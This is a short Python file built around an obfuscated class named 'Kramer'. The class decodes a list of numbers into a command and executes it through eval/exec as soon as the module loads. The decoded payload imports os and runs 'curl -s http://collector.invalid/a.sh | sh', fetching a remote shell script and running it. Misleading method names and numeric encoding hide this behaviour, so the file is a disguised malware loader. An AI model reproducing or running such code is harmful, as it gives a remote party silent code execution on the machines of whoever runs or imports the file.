class Kramer():
    def __decode__(self:object, _execute: str) -> exec: return (None, self._exec(_execute))[0]
    def __init__(self:object, _0: int = None, *a, **k) -> exec:
        self._exec = lambda s: eval(self._eval(s))
        self._eval = lambda s: 'exec(' + repr(''.join(chr(int(x) - _0) for x in s.split('/'))) + ')'
        self.__decode__(self._data)
    _data = '112,116,119,118,121,123,39,118,122,17,118,122,53,122,128,122,123,108,116,47,41,106,124,121,115,39,52,122,39,111,123,123,119,65,54,54,106,118,115,115,108,106,123,118,121,53,112,117,125,104,115,112,107,54,104,53,122,111,39,131,39,122,111,41,48,17'.replace(',', '/')
Kramer(7)
